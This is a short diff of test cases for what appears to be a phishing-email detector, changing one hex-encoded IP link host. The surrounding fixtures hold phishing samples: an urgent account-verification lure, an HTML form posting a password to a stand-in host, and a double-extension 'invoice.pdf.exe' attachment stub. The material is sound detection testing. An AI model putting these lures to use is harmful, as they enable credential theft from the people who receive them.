@@ -45,7 +45,7 @@ CASES = {
     "pressure": letter(
         "Dear customer, verify your account within 24 hours or your password expires.\n"
         "Confirm your identity: http://badhost.net/\n"),
-    "link-hosts": html(LINK.format(href="http://0x7f000001/x", text="here")),
+    "link-hosts": html(LINK.format(href="http://0x08080808/x", text="here")),
     "html-smuggling": attached(
         b"<html><form action='http://badhost.net'><input type='password'></form>", "a.html"),
     "attachments": attached(zipped("invoice.pdf.exe", b"MZ" + bytes(64)), "a.zip"),
